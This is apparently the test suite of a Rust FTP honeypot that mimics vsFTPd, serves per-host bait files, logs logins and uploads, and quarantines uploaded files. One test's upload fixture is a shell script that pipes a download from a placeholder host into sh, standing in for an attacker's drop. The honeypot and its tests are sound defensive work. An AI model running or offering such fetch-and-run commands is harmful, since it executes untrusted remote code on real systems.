use proptest::prelude::*;
use sha2::{Digest, Sha256};

use super::*;
use crate::session::DataOp;

/// 2025-06-01 12:00 UTC: the bait's dates fall within the year before.
const NOW: i64 = 1_748_779_200;

fn conn() -> ConnInfo {
    ConnInfo {
        peer: "198.51.100.7:40000".parse().unwrap(),
        local: "10.0.0.5:21".parse().unwrap(),
    }
}

fn server(extra: &[(&str, &str)]) -> Ftp {
    let mut pairs = vec![("NODE_NAME", "files01"), ("HOSTNAME", "files01.corp.local")];
    pairs.extend_from_slice(extra);
    Ftp::from_persona(&Persona::from_pairs(&pairs))
}

fn session(extra: &[(&str, &str)]) -> FtpSession {
    let mut s = server(extra).session_at(&conn(), NOW);
    let mut step = Step::default();
    s.start(&mut step);
    s
}

/// What a whole exchange produced, with the data channel played by a cooperative client.
#[derive(Debug, Default)]
struct Run {
    out: String,
    events: Vec<crate::session::ServiceEvent>,
    /// Bytes the server sent over data connections, one entry per transfer.
    data: Vec<Vec<u8>>,
    ops: Vec<DataOp>,
    artifacts: Vec<crate::session::Artifact>,
    delay: Duration,
    close: bool,
}

/// Feed `chunks`, answering the session's data requests the way the runtime would when the
/// client connects and (for uploads) sends `upload`.
fn run(s: &mut FtpSession, chunks: &[&[u8]], upload: &[u8]) -> Run {
    let mut r = Run::default();
    let mut pending: VecDeque<DataEvent> = VecDeque::new();
    let absorb = |step: &mut Step, r: &mut Run, pending: &mut VecDeque<DataEvent>| {
        let step = step.take();
        r.out.push_str(&String::from_utf8_lossy(&step.out));
        r.events.extend(step.events);
        r.artifacts.extend(step.artifacts);
        r.delay += step.delay.unwrap_or_default();
        r.close |= step.close;
        for op in step.data {
            match &op {
                DataOp::Listen => pending.push_back(DataEvent::Listening(40_123)),
                DataOp::Send(bytes) => {
                    r.data.push(bytes.clone());
                    pending.push_back(DataEvent::Opened);
                    pending.push_back(DataEvent::Sent {
                        bytes: bytes.len() as u64,
                    });
                }
                DataOp::Receive { limit } => {
                    pending.push_back(DataEvent::Opened);
                    pending.push_back(DataEvent::Received {
                        data: upload[..upload.len().min(*limit)].to_vec(),
                        total: upload.len() as u64,
                    });
                }
                DataOp::Connect(_) | DataOp::Close => {}
            }
            r.ops.push(op);
        }
    };
    for chunk in chunks {
        let mut step = Step::default();
        s.receive(chunk, &mut step);
        absorb(&mut step, &mut r, &mut pending);
        while let Some(event) = pending.pop_front() {
            let mut step = Step::default();
            s.data(event, &mut step);
            absorb(&mut step, &mut r, &mut pending);
        }
    }
    r
}

fn kinds(r: &Run) -> Vec<&str> {
    r.events.iter().map(|e| e.kind.as_str()).collect()
}

fn bait(name: &str) -> Arc<[u8]> {
    let s = session(&[]);
    let node = s.tree.get(&format!("/{name}")).unwrap();
    match &node.body {
        Body::Bait(b) => Arc::clone(b),
        _ => panic!("not bait"),
    }
}

#[test]
fn greeting_and_banner_override() {
    let mut s = server(&[]).session_at(&conn(), NOW);
    let mut step = Step::default();
    s.start(&mut step);
    assert_eq!(step.out, b"220 (vsFTPd 3.0.3)\r\n");
    for banner in ["ProFTPD Server ready.", "220 ProFTPD Server ready."] {
        let mut s = server(&[("FTP_BANNER", banner)]).session_at(&conn(), NOW);
        let mut step = Step::default();
        s.start(&mut step);
        assert_eq!(step.out, b"220 ProFTPD Server ready.\r\n");
    }
}

#[test]
fn python_ftplib_anonymous_session() {
    // ftplib: login(), retrlines('LIST'), retrbinary('RETR ...'), storbinary('STOR ...'), quit().
    let mut s = session(&[("QUARANTINE_DIR", "/q")]);
    let r = run(
        &mut s,
        &[
            b"USER anonymous\r\n",
            b"PASS anonymous@\r\n",
            b"TYPE A\r\n",
            b"PASV\r\n",
            b"LIST\r\n",
            b"TYPE I\r\n",
            b"PASV\r\n",
            b"RETR credentials.txt\r\n",
            b"TYPE I\r\n",
            b"PASV\r\n",
            b"STOR drop.sh\r\n",
            b"QUIT\r\n",
        ],
        b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n",
    );
    let creds = bait("credentials.txt");
    assert_eq!(
        r.out,
        format!(
            "331 Please specify the password.\r\n230 Login successful.\r\n\
             200 Switching to ASCII mode.\r\n227 Entering Passive Mode (10,0,0,5,156,187).\r\n\
             150 Here comes the directory listing.\r\n226 Directory send OK.\r\n\
             200 Switching to Binary mode.\r\n227 Entering Passive Mode (10,0,0,5,156,187).\r\n\
             150 Opening BINARY mode data connection for credentials.txt ({} bytes).\r\n\
             226 Transfer complete.\r\n\
             200 Switching to Binary mode.\r\n227 Entering Passive Mode (10,0,0,5,156,187).\r\n\
             150 Ok to send data.\r\n226 Transfer complete.\r\n221 Goodbye.\r\n",
            creds.len()
        )
    );
    assert!(r.close);
    assert_eq!(r.data[1], creds.to_vec());
    let listing = String::from_utf8(r.data[0].clone()).unwrap();
    let names: Vec<&str> = listing
        .lines()
        .map(|l| l.rsplit(' ').next().unwrap())
        .collect();
    assert_eq!(
        names,
        [
            "backup.tar.gz",
            "config.ini",
            "credentials.txt",
            "db_dump.sql"
        ]
    );
    assert_eq!(
        kinds(&r),
        [
            "user",
            "auth_attempt",
            "command",
            "command",
            "command",
            "command",
            "command",
            "download",
            "command",
            "command",
            "upload",
            "command"
        ]
    );
    let auth = &r.events[1];
    assert_eq!(auth.field("username"), Some("anonymous"));
    assert_eq!(auth.field("password"), Some("anonymous@"));
    assert_eq!(auth.field("success"), Some("true"));
    assert_eq!(auth.severity, Severity::Warning);
    assert_eq!(r.events[7].field("path"), Some("/credentials.txt"));
    let upload = &r.events[10];
    let sha_real = hex(&Sha256::digest(
        b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n",
    ));
    assert_eq!(upload.field("path"), Some("/drop.sh"));
    assert_eq!(upload.field("size"), Some("41"));
    assert_eq!(upload.field("sha256"), Some(sha_real.as_str()));
    assert_eq!(upload.field("stored_as"), Some(sha_real.as_str()));
    assert_eq!(upload.field("truncated"), Some("false"));
    assert_eq!(r.artifacts.len(), 1);
    assert_eq!(r.artifacts[0].name, sha_real);
    assert_eq!(
        r.artifacts[0].bytes,
        b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n"
    );
}

#[test]
fn curl_listing_with_epsv() {
    // curl ftp://host/ : USER, PASS, PWD, EPSV, TYPE A, LIST, QUIT.
    let mut s = session(&[]);
    let r = run(
        &mut s,
        &[b"USER anonymous\r\nPASS ftp@example.com\r\nPWD\r\nEPSV\r\nTYPE A\r\nLIST\r\nQUIT\r\n"],
        b"",
    );
    assert_eq!(
        r.out,
        "331 Please specify the password.\r\n230 Login successful.\r\n\
         257 \"/\" is the current directory\r\n\
         229 Entering Extended Passive Mode (|||40123|)\r\n200 Switching to ASCII mode.\r\n\
         150 Here comes the directory listing.\r\n226 Directory send OK.\r\n221 Goodbye.\r\n"
    );
}

#[test]
fn listing_is_in_vsftpd_format() {
    let s = session(&[]);
    let (listing, ok) = s.listing("", true, false);
    assert!(ok);
    let text = String::from_utf8(listing).unwrap();
    let sizes: Vec<String> = [
        "backup.tar.gz",
        "config.ini",
        "credentials.txt",
        "db_dump.sql",
    ]
    .iter()
    .map(|n| bait(n).len().to_string())
    .collect();
    for (line, size) in text.split_terminator("\r\n").zip(&sizes) {
        // "-rw-r--r--    1 1000     1000       123456 Mar 14  2025 name"
        assert!(
            line.starts_with("-rw-r--r--    1 1000     1000     "),
            "{line}"
        );
        assert_eq!(&line[33..42], format!(" {size:>8}"), "{line}");
        let date = &line[43..55];
        assert!(
            date.as_bytes()[3] == b' ' && date.as_bytes()[6] == b' ',
            "{date}"
        );
    }
    assert!(text.ends_with("\r\n"));
    let (all, _) = s.listing("-la", false, false);
    let all = String::from_utf8(all).unwrap();
    assert!(all.starts_with("drwxr-xr-x    2 0        0            4096 "));
    assert!(all.lines().nth(1).unwrap().ends_with(" .."));
    let (names, _) = s.listing("*.sql", false, false);
    assert_eq!(names, b"db_dump.sql\r\n");
    let (missing, ok) = s.listing("/nope/x", true, false);
    assert!(missing.is_empty() && !ok);
}

#[test]
fn bait_is_per_host_and_sized_plausibly() {
    let a = bait("backup.tar.gz");
    assert_eq!(&a[..3], &[0x1f, 0x8b, 8]);
    assert!(a.len() > 90 * 1024, "{}", a.len());
    let sql = String::from_utf8(bait("db_dump.sql").to_vec()).unwrap();
    assert!(sql.starts_with("-- MySQL dump 10.13"));
    assert!(sql.contains("@corp.local"));
    let other = server(&[("HOSTNAME", "ftp-02.example.org")]);
    let mut s2 = other.session_at(&conn(), NOW);
    let mut step = Step::default();
    s2.start(&mut step);
    let Body::Bait(b) = &s2.tree.get("/credentials.txt").unwrap().body else {
        panic!()
    };
    assert_ne!(b.to_vec(), bait("credentials.txt").to_vec());
    assert!(String::from_utf8_lossy(b).contains("example.org"));
}

#[test]
fn failed_logins_are_delayed_and_the_third_hangs_up() {
    let mut s = session(&[("FTP_USERS", "deploy:Winter2024!")]);
    let r = run(&mut s, &[b"USER root\r\nPASS toor\r\n"], b"");
    assert_eq!(
        r.out,
        "331 Please specify the password.\r\n530 Login incorrect.\r\n"
    );
    assert_eq!(r.delay, Duration::from_secs(1));
    assert_eq!(r.events[1].field("success"), Some("false"));
    let r = run(&mut s, &[b"PASS again\r\n"], b"");
    assert_eq!(r.out, "503 Login with USER first.\r\n");
    let r = run(
        &mut s,
        &[b"USER admin\r\nPASS admin\r\nUSER deploy\r\nPASS nope\r\nUSER deploy\r\n"],
        b"",
    );
    assert_eq!(
        r.out,
        "331 Please specify the password.\r\n530 Login incorrect.\r\n\
         331 Please specify the password.\r\n530 Login incorrect.\r\n"
    );
    assert!(r.close, "max_login_fails=3");
}

#[test]
fn local_users_log_in_and_anonymous_can_be_disabled() {
    let mut s = session(&[
        ("FTP_USERS", "deploy:Winter2024!,backup:b4ckup"),
        ("FTP_ANONYMOUS", "false"),
    ]);
    let r = run(&mut s, &[b"USER anonymous\r\nPASS x@y\r\n"], b"");
    assert!(r.out.ends_with("530 Login incorrect.\r\n"));
    let r = run(
        &mut s,
        &[b"USER backup\r\nPASS b4ckup\r\nSYST\r\nSTAT\r\n"],
        b"",
    );
    assert!(r.out.starts_with(
        "331 Please specify the password.\r\n230 Login successful.\r\n215 UNIX Type: L8\r\n\
         211-FTP server status:\r\n     Connected to 198.51.100.7\r\n     Logged in as backup\r\n"
    ));
    assert!(
        r.out
            .ends_with("     vsFTPd 3.0.3 - secure, fast, stable\r\n211 End of status\r\n")
    );
    assert_eq!(r.events[1].field("success"), Some("true"));
}

#[test]
fn uploads_read_back_for_users_but_not_anonymous() {
    let mut anon = session(&[]);
    let r = run(
        &mut anon,
        &[b"USER ftp\r\nPASS x\r\nPASV\r\nSTOR a.txt\r\nPASV\r\nRETR a.txt\r\nDELE a.txt\r\nNLST\r\n"],
        b"hello",
    );
    assert!(r.out.contains("226 Transfer complete.\r\n"));
    assert!(r.out.contains("550 Failed to open file.\r\n"), "{}", r.out);
    assert!(r.out.contains("550 Permission denied.\r\n"), "anon DELE");
    // A RETR that fails to open its file leaves the passive listener for the next command.
    assert!(r.out.ends_with("226 Directory send OK.\r\n"), "{}", r.out);
    assert_eq!(r.events.last().unwrap().field("cmd"), Some("NLST"));
    assert_eq!(r.artifacts, [], "no quarantine dir configured");
    let upload = r.events.iter().find(|e| e.kind == "upload").unwrap();
    assert_eq!(upload.field("stored_as"), Some(""));

    let mut user = session(&[("FTP_USERS", "deploy:pw")]);
    let r = run(
        &mut user,
        &[b"USER deploy\r\nPASS pw\r\nMKD inbox\r\nCWD inbox\r\nPASV\r\nSTOR a.txt\r\nPASV\r\nRETR a.txt\r\nSIZE a.txt\r\nRNFR a.txt\r\nRNTO b.txt\r\nDELE b.txt\r\nDELE /credentials.txt\r\n"],
        b"hello",
    );
    assert!(r.out.contains("257 \"/inbox\" created\r\n"), "{}", r.out);
    assert_eq!(r.data, [b"hello".to_vec()]);
    assert!(r.out.contains(
        "213 5\r\n350 Ready for RNTO.\r\n250 Rename successful.\r\n\
         250 Delete operation successful.\r\n550 Delete operation failed.\r\n"
    ));
}

#[test]
fn port_only_reaches_back_to_the_client() {
    let mut s = session(&[]);
    let r = run(
        &mut s,
        &[b"USER ftp\r\nPASS x\r\nPORT 203,0,113,9,31,144\r\nPORT 198,51,100,7,0,80\r\nPORT 1,2\r\nPORT 198,51,100,7,31,144\r\nEPRT |1|198.51.100.7|8081|\r\nEPRT |2|::1|8081|\r\nEPRT junk\r\n"],
        b"",
    );
    assert_eq!(
        r.out,
        "331 Please specify the password.\r\n230 Login successful.\r\n\
         500 Illegal PORT command.\r\n500 Illegal PORT command.\r\n500 Illegal PORT command.\r\n\
         200 PORT command successful. Consider using PASV.\r\n\
         200 EPRT command successful. Consider using EPSV.\r\n500 Bad EPRT protocol.\r\n\
         500 Bad EPRT command.\r\n"
    );
    assert!(r.ops.contains(&DataOp::Connect(8080)));
    assert!(r.ops.contains(&DataOp::Connect(8081)));
    assert!(!r.ops.contains(&DataOp::Connect(80)));
}

#[test]
fn vsftpd_replies_before_and_after_login() {
    let mut s = session(&[]);
    let r = run(&mut s, &[b"SYST\r\nFEAT\r\n\r\nHELP\r\n"], b"");
    assert_eq!(
        r.out,
        format!(
            "530 Please login with USER and PASS.\r\n{FEAT}530 Please login with USER and PASS.\r\n"
        )
    );
    let r = run(
        &mut s,
        &[b"USER ftp\r\nPASS \r\nCWD /nope\r\nCDUP\r\nTYPE X\r\nMODE S\r\nSTRU R\r\nREST 100\r\nRETR config.ini\r\nSIZE nope\r\nOPTS UTF8 ON\r\nUSER root\r\nPASS x\r\nABOR\r\nXYZZY\r\nEPSV ALL\r\nPASV\r\n"],
        b"",
    );
    assert_eq!(
        r.out,
        "331 Please specify the password.\r\n230 Login successful.\r\n\
         550 Failed to change directory.\r\n250 Directory successfully changed.\r\n\
         500 Unrecognised TYPE command.\r\n200 Mode set to S.\r\n504 Bad STRU command.\r\n\
         350 Restart position accepted (100).\r\n425 Use PORT or PASV first.\r\n\
         550 Could not get file size.\r\n200 Always in UTF8 mode.\r\n\
         530 Can't change from guest user.\r\n230 Already logged in.\r\n\
         225 No transfer to ABOR.\r\n500 Unknown command.\r\n200 EPSV ALL ok.\r\n\
         550 Permission denied.\r\n"
    );
}

#[test]
fn byte_at_a_time_gives_the_same_result() {
    let input: &[u8] = b"USER anonymous\r\nPASS a@b\r\nPWD\r\nPASV\r\nLIST -la\r\nPASV\r\nRETR config.ini\r\nQUIT\r\n";
    let whole = run(&mut session(&[]), &[input], b"");
    let bytes: Vec<&[u8]> = input.chunks(1).collect();
    let split = run(&mut session(&[]), &bytes, b"");
    assert_eq!(whole.out, split.out);
    assert_eq!(whole.data, split.data);
    assert_eq!(whole.events, split.events);
    assert!(split.close);
}

#[test]
fn hostile_input() {
    let mut s = session(&[]);
    let r = run(
        &mut s,
        &[&[0xff, 0x00, 0x80, b'\n'], b"\x16\x03\x01\x02\x00\x01\r\n"],
        b"",
    );
    assert_eq!(
        r.out
            .matches("530 Please login with USER and PASS.")
            .count(),
        2
    );
    let mut s = session(&[]);
    let r = run(&mut s, &[&vec![b'A'; 10_000]], b"");
    assert_eq!(r.out, "500 Input line too long.\r\n");
    assert!(r.close);
    let r = run(&mut s, &[b"USER x\r\n"], b"");
    assert!(r.out.is_empty(), "closed sessions stay closed");
    let mut s = session(&[]);
    let r = run(
        &mut s,
        &[b"USER ftp\r\nPASS x\r\nGET / HTTP/1.1\r\nPWD\r\n"],
        b"",
    );
    assert!(
        r.out
            .ends_with("500 HTTP protocol commands not allowed.\r\n")
    );
    // Deep or huge paths are refused, not resolved.
    let mut s = session(&[]);
    let deep = format!(
        "USER ftp\r\nPASS x\r\nCWD {}\r\nMKD {}\r\n",
        "a/".repeat(500),
        "b".repeat(2000)
    );
    let r = run(&mut s, &[deep.as_bytes()], b"");
    assert!(r.out.ends_with(
        "550 Failed to change directory.\r\n550 Create directory operation failed.\r\n"
    ));
}

#[test]
fn mkdir_floods_are_bounded() {
    let mut s = session(&[]);
    let mut input = b"USER ftp\r\nPASS x\r\n".to_vec();
    for i in 0..400 {
        input.extend_from_slice(format!("MKD d{i}\r\n").as_bytes());
    }
    let r = run(&mut s, &[&input], b"");
    assert!(r.out.contains("550 Create directory operation failed."));
    assert!(s.tree.children("/").count() <= fs::MAX_NODES);
}

/// Names past `NAME_MAX` are refused, and a STAT filter longer than any name could match is
/// matched against none (200 directories of 1,000-byte names and a 520-byte filter once cost
/// tens of millions of steps per command).
#[test]
fn long_names_and_filters_are_refused() {
    let mut s = session(&[]);
    let long = "a".repeat(256);
    let input = format!("USER ftp\r\nPASS x\r\nMKD {long}\r\nMKD {}\r\n", &long[1..]);
    let r = run(&mut s, &[input.as_bytes()], b"");
    assert!(
        r.out.contains("550 Create directory operation failed."),
        "{}",
        r.out
    );
    assert!(
        r.out.contains(&format!("257 \"/{}\" created", &long[1..])),
        "{}",
        r.out
    );
    let filter = format!("*{}b", "a".repeat(600));
    let r = run(
        &mut s,
        &[format!("STAT {filter}\r\nSTAT *a\r\n").as_bytes()],
        b"",
    );
    let listings: Vec<&str> = r.out.split("213-Status follows:\r\n").skip(1).collect();
    assert_eq!(listings.len(), 2, "{}", r.out);
    assert!(
        listings[0].starts_with("213 End of status"),
        "{}",
        listings[0]
    );
    assert!(listings[1].contains(&long[1..]), "{}", listings[1]);
}

#[test]
fn oversized_uploads_are_truncated_and_flagged() {
    let mut s = session(&[("QUARANTINE_DIR", "/q")]);
    let big = vec![7u8; MAX_UPLOAD + 10];
    let r = run(
        &mut s,
        &[b"USER ftp\r\nPASS x\r\nPASV\r\nSTOR big\r\n"],
        &big,
    );
    let up = r.events.iter().find(|e| e.kind == "upload").unwrap();
    assert_eq!(up.field("size"), Some(&*(MAX_UPLOAD + 10).to_string()));
    assert_eq!(up.field("truncated"), Some("true"));
    assert_eq!(r.artifacts[0].bytes.len(), MAX_UPLOAD);
}

proptest! {
    #[test]
    fn never_panics_and_stays_bounded(
        chunks in proptest::collection::vec(proptest::collection::vec(any::<u8>(), 0..600), 0..16),
        login in any::<bool>(),
    ) {
        let mut s = session(&[("FTP_USERS", "a:b")]);
        if login {
            run(&mut s, &[b"USER a\r\nPASS b\r\nPASV\r\n"], b"x");
        }
        let refs: Vec<&[u8]> = chunks.iter().map(Vec::as_slice).collect();
        let r = run(&mut s, &refs, b"payload");
        prop_assert!(r.out.len() < 1 << 20);
        prop_assert!(s.queue.len() <= MAX_QUEUED);
    }

    #[test]
    fn command_soup_never_panics(cmds in proptest::collection::vec(
        (prop::sample::select(vec![
            "USER", "PASS", "CWD", "CDUP", "PASV", "EPSV", "PORT", "EPRT", "LIST", "NLST", "RETR",
            "STOR", "STOU", "APPE", "MKD", "RMD", "DELE", "RNFR", "RNTO", "SIZE", "MDTM", "REST",
            "SITE", "STAT", "TYPE", "ABOR", "QUIT",
        ]), "[ -~]{0,24}"),
        0..40,
    )) {
        let mut s = session(&[("FTP_USERS", "a:b")]);
        run(&mut s, &[b"USER a\r\nPASS b\r\n"], b"");
        let mut input = Vec::new();
        for (c, a) in &cmds {
            input.extend_from_slice(format!("{c} {a}\r\n").as_bytes());
        }
        let r = run(&mut s, &[&input], b"data");
        prop_assert!(r.out.len() < 1 << 20);
    }
}
